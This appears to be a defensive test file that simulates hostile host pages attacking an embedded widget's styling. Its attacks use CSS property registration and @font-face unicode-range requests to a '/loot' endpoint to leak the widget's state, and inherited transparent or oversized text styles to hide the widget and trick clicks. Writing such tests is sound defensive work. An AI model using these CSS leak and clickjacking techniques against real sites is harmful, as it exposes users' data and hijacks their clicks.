/** Pages that give a meaning of their own to what our styles could take from them: names of the whole document, fonts, what is inherited. */
import { STEADY_MS } from '../../../../lib/in-page/visibility.ts';
import { type Attack, byScript, type Scene } from '../attack.ts';
import { showsNothing } from '../person.ts';

const names = [
  ...['--surface', '--line', '--line-strong', '--ink', '--ink-soft', '--accent', '--accent-strong', '--on-accent'],
  ...['--accent-soft', '--danger', '--lift'],
];

export const naming: readonly Attack[] = [
  {
    name: 'registers our custom properties as colours of nothing',
    against: 'plain-values',
    wants: 'deed',
    play: async (scene) => {
      await scene.page.evaluate((names) => {
        for (const name of names)
          CSS.registerProperty({ name, syntax: '<color>', inherits: false, initialValue: 'transparent' });
      }, names);
      await clickUnlessSeen(scene);
    },
  },
  {
    name: 'registers our custom properties, and is asked for what they stand for',
    against: 'plain-values',
    wants: 'state',
    play: byScript(async (names) => {
      for (const name of names) {
        const initialValue = `url(${location.origin}/loot?${name})`;
        CSS.registerProperty({ name, syntax: '*', inherits: false, initialValue });
      }
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      return window.bringHome('all');
    }, names),
  },
  {
    name: 'has a font of its own for every name, which is asked for when a letter stands there',
    against: 'fonts-by-kind',
    wants: 'state',
    play: byScript(async () => {
      const fonts = ['system-ui', 'sans-serif', 'ui-sans-serif', '-apple-system', 'Segoe UI', 'Roboto', 'Noto Sans'];
      const sheet = new CSSStyleSheet();
      // The capital of "Read", which nothing begins with where a chapter is unread.
      const faceOf = (font: string) =>
        `@font-face { font-family: "${font}"; src: url("${location.origin}/loot?R"); unicode-range: U+52 }`;
      sheet.replaceSync(fonts.map(faceOf).join('\n'));
      document.adoptedStyleSheets.push(sheet);
      // Each font that something is to be painted with has been asked for two frames later, and has come, or not, when all are ready.
      for (let frame = 0; frame < 2; frame++) await new Promise(requestAnimationFrame);
      await document.fonts.ready;
      return window.bringHome('all');
    }),
  },
  {
    name: 'lets our words inherit a colour of nothing',
    against: 'nothing-inherited',
    wants: 'deed',
    play: restyled({ '-webkit-text-fill-color': 'transparent' }),
  },
  {
    name: 'lets our words inherit an outline as broad as themselves',
    against: 'nothing-inherited',
    wants: 'deed',
    play: restyled({ '-webkit-text-stroke': '40px #0b6b63' }),
  },
];

/** The person clicks where they read nothing of ours: on whatever the page has led them to there. */
async function clickUnlessSeen({ arena, page, control }: Scene): Promise<void> {
  const { x, y } = await control.where('Mark as read');
  if (await showsNothing(arena, page, { x: x - 30, y: y - 8, width: 60, height: 16 })) await page.mouse.click(x, y);
}

function restyled(styles: Readonly<Record<string, string>>) {
  return async (scene: Scene) => {
    await scene.page.evaluate((styles) => window.restyleOurs(styles), styles);
    // What a page has just changed takes no press; it can wait.
    await scene.page.waitForTimeout(2 * STEADY_MS);
    await clickUnlessSeen(scene);
  };
}
